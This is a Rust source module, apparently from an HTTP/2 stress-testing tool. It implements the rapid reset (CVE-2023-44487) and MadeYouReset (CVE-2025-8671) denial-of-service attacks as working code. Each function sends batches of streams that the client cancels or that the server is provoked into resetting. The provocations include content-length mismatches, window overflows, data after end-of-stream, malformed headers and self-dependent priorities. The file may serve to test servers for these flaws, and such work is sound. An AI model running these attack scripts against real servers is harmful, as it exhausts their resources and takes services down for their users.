//! Streams that end at once: reset by the attacker (rapid reset, CVE-2023-44487), or by the server, which is made to
//! (MadeYouReset, CVE-2025-8671). Either way the server has the work and the attacker hardly any.

use crate::{
    Size,
    attack::Outcome,
    tally::{Script, waves},
    target::Target,
    wire::{
        CANCEL, DATA, END_HEADERS, END_STREAM, Frames, RST_STREAM, WINDOW_MOST, WINDOW_UPDATE, WITH_PRIORITY,
        field, head,
    },
};

/// What is written at once.
const BATCH: u64 = 200;

/// Streams of one connection. Without its guard the server keeps up to a kilobyte for each whose reset waits to be sent.
fn most(size: Size) -> u64 {
    size.of(10_000, 100_000)
}

/// A way to have a stream reset.
pub(crate) type Trigger = fn(&mut Frames, &[u8]);

/// A connection on which each stream ends by this trigger, as long as the server goes on.
fn script(size: Size, head: Vec<u8>, trigger: Trigger) -> Script {
    let mut left = most(size);
    Script {
        opening: Frames::opening(&[]),
        next: Box::new(move |frames| {
            left = left.checked_sub(BATCH)?;
            (0..BATCH).for_each(|_| trigger(frames, &head));
            Some(BATCH)
        }),
    }
}

pub(crate) async fn rapid(target: &Target, size: Size) -> anyhow::Result<Outcome> {
    let rapid = |size| {
        script(size, head("GetSystem"), |frames, head| {
            let stream = frames.open(END_HEADERS, head);
            frames.put(RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
        })
    };
    Ok(waves(target, size, rapid).await?.outcome("requests"))
}

/// Runs a script of triggers, each of which the server answers with RST_STREAM or not at all.
pub(crate) async fn caused(
    target: &Target,
    size: Size,
    script: fn(Size) -> Script,
) -> anyhow::Result<Outcome> {
    let waves = waves(target, size, script).await?;
    let mut outcome = waves.outcome("streams");
    if !outcome.stopped {
        outcome.happened += &format!(", {} resets sent", waves.frames(RST_STREAM));
    }
    Ok(outcome)
}

fn with_length(length: &str) -> Vec<u8> {
    let mut head = head("GetSystem");
    field(&mut head, "content-length", length);
    head
}

/// Promises five bytes and ends without any.
pub(crate) fn length_mismatch(size: Size) -> Script {
    script(size, with_length("5"), |frames, head| {
        frames.open(END_HEADERS | END_STREAM, head);
    })
}

/// Sends more than was promised.
pub(crate) fn past_length(size: Size) -> Script {
    script(size, with_length("1"), |frames, head| {
        let stream = frames.open(END_HEADERS, head);
        frames.put(DATA, END_STREAM, stream, &[0; 5]);
    })
}

/// Opens a window beyond what a window may be.
pub(crate) fn window_overflow(size: Size) -> Script {
    script(size, head("GetSystem"), |frames, head| {
        let stream = frames.open(END_HEADERS, head);
        frames.put(WINDOW_UPDATE, 0, stream, &WINDOW_MOST.to_be_bytes());
    })
}

/// Opens a window by nothing.
pub(crate) fn window_by_nothing(size: Size) -> Script {
    script(size, head("GetSystem"), |frames, head| {
        let stream = frames.open(END_HEADERS, head);
        frames.put(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes());
    })
}

/// Goes on behind its end.
pub(crate) fn data_behind_end(size: Size) -> Script {
    script(size, head("Report"), |frames, head| {
        let stream = frames.open(END_HEADERS | END_STREAM, head);
        frames.put(DATA, 0, stream, &[0; 5]);
    })
}

/// A header whose name is not in lower case.
pub(crate) fn malformed_header(size: Size) -> Script {
    let mut head = head("GetSystem");
    field(&mut head, "Upper", "case");
    script(size, head, |frames, head| {
        frames.open(END_HEADERS | END_STREAM, head);
    })
}

/// A request without a method or a path.
pub(crate) fn headless(size: Size) -> Script {
    let mut head = Vec::new();
    field(&mut head, "te", "trailers");
    script(size, head, |frames, head| {
        frames.open(END_HEADERS | END_STREAM, head);
    })
}

/// A stream that depends on itself.
pub(crate) fn self_dependency(size: Size) -> Script {
    let (mut next, mut left) = (1_u32, most(size));
    let head = head("GetSystem");
    Script {
        opening: Frames::opening(&[]),
        next: Box::new(move |frames| {
            left = left.checked_sub(BATCH)?;
            for _ in 0..BATCH {
                let payload = [&next.to_be_bytes()[..], &[0], &head].concat();
                frames.open(END_HEADERS | END_STREAM | WITH_PRIORITY, &payload);
                next += 2;
            }
            Some(BATCH)
        }),
    }
}
